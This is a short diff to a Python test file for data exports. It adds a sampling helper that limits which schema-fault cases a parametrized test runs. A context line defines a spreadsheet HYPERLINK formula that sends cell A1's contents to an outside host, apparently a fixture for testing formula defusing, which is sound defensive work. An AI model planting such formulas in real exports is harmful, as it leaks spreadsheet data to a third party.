@@ -20,6 +20,7 @@ from exports.formulas import defuse
 from frictionless import Package
 from geojson_pydantic import FeatureCollection
 from openpyxl import load_workbook
+from sampling import sample
 
 DATABASE = ROOT / "clearview.db"
 FORMULA = '=HYPERLINK("https://example.org/?"&A1,"x")'
@@ -147,7 +148,7 @@ FAULTS = {
 }
 
 
-@pytest.mark.parametrize("name", FAULTS)
+@pytest.mark.parametrize("name", sample(FAULTS, ["countries.csv", "agencies.ndjson"]))
 def test_frictionless_finds_a_fault_by_the_schema(exports: Path, tmp_path: Path, name: str) -> None:
     for path in exports.iterdir():
         (tmp_path / path.name).write_bytes(path.read_bytes())
